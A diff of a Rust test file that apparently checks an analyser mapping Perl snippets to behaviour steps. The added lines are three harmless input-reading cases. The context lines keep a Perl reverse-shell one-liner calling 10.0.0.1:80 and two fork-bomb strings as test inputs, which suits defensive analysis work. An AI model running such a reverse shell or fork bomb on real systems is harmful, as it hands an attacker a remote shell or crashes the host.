@@ -51,6 +51,9 @@ fn code_takes_its_steps() {
                 "use Socket;$s=IO::Socket::INET->new(PeerAddr=>'10.0.0.1:80');open(STDIN,'>&S');exec('/bin/sh -i')",
                 &["fetch 10.0.0.1:80", "shell ?<10.0.0.1:80>", "shell /bin/sh -i", "shell ?<10.0.0.1:80>"],
             ),
+            ("print <>", &["read first", "print ?<file first>"]),
+            ("print while <>", &["read first", "print ?<file first>"]),
+            ("print <STDIN>", &["print ?"]),
             ("fork while 1", &["linger", "exhaust forks without end"]),
             ("while(1){fork}", &["linger", "exhaust forks without end"]),
             (
